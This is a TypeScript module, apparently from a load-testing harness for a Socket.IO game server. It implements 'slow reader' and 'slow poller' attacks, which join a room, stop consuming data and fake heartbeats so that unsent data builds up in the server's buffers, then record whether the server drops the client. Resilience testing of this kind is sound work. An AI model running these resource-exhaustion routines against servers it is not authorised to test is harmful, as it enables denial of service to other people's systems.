/**
 * A player that stops reading: it joins the room (the target's, or one of its own), then never
 * takes another byte, and answers the server's heartbeat blind so it is not dropped for
 * silence. Whatever the server sends it piles up, first in the kernel's buffers, then in the
 * server's, unless the server skips its snapshots and, past its limit, lets it go.
 */
import { request as httpRequestRaw } from 'node:http';
import { type Attack, type AttackTally, count, sleep } from './attack.js';
import { connectFrame, connectOutcome, eventFrame, openEngine } from './engine-socket.js';

/** Well inside the server's heartbeat (ping every 10 s by default). */
const BLIND_PONG_MS = 2000;

export const slowReader: Attack = async (target, durationMs) => {
  const tally: AttackTally = {};
  const raw = await openEngine(target);
  if (!raw) return { refused: 1 };
  raw.sendTexts([connectFrame()]);
  count(tally, `join-${await connectOutcome(raw)}`);
  const join = target.roomCode
    ? eventFrame('room:join', { code: target.roomCode, name: 'Sloth' })
    : eventFrame('room:create', { name: 'Sloth' });
  raw.sendTexts([join]);
  await raw.until(() => raw.texts.some((t) => t.startsWith('42["room:joined"'))).catch(() => {});
  count(tally, raw.texts.some((t) => t.startsWith('42["room:joined"')) ? 'in-room' : 'no-room');
  raw.socket.pause();
  const endAt = performance.now() + durationMs;
  while (performance.now() < endAt && raw.endedBy === 'open') {
    raw.sendTexts(['3']);
    await sleep(Math.min(BLIND_PONG_MS, Math.max(0, endAt - performance.now())));
  }
  count(tally, raw.endedBy === 'open' ? 'still-open' : 'closed-by-server');
  raw.destroy();
  return tally;
};

const POLLING_PATH = '/socket.io/?EIO=4&transport=polling';

/** One HTTP request by `node:http` (lighter than fetch); the body, or undefined if it failed. */
function httpRequest(url: string, body?: string): Promise<string | undefined> {
  return new Promise((resolve) => {
    const request = httpRequestRaw(url, { method: body === undefined ? 'GET' : 'POST' }, (res) => {
      let text = '';
      res.setEncoding('utf8');
      res.on('data', (chunk: string) => (text += chunk));
      res.on('end', () => resolve(res.statusCode === 200 ? text : undefined));
    });
    request.on('error', () => resolve(undefined));
    request.end(body);
  });
}

/**
 * The same over HTTP long-polling, where nothing stands between the server and the client's
 * neglect: it stops polling (no GET), so everything sent to it waits in the server's own
 * buffer at once, and keeps answering the heartbeat blind by POST.
 */
export const slowPoller: Attack = async (target, durationMs) => {
  const tally: AttackTally = {};
  const sid = /"sid":"([^"]+)"/.exec(
    (await httpRequest(`${target.url}${POLLING_PATH}`)) ?? '',
  )?.[1];
  if (!sid) return { refused: 1 };
  const url = `${target.url}${POLLING_PATH}&sid=${sid}`;
  await httpRequest(url, connectFrame());
  count(tally, (await httpRequest(url))?.startsWith('40') ? 'join-accepted' : 'join-refused');
  const join = target.roomCode
    ? eventFrame('room:join', { code: target.roomCode, name: 'Sloth' })
    : eventFrame('room:create', { name: 'Sloth' });
  await httpRequest(url, join);
  count(tally, (await httpRequest(url))?.includes('"room:joined"') ? 'in-room' : 'no-room');
  const endAt = performance.now() + durationMs;
  let stillOpen = true;
  while (performance.now() < endAt && stillOpen) {
    stillOpen = (await httpRequest(url, '3')) !== undefined;
    await sleep(Math.min(BLIND_PONG_MS, Math.max(0, endAt - performance.now())));
  }
  count(tally, stillOpen ? 'still-open' : 'closed-by-server');
  // An engine.io close packet: its session ends, as a client that leaves would end it.
  if (stillOpen) await httpRequest(url, '1');
  return tally;
};
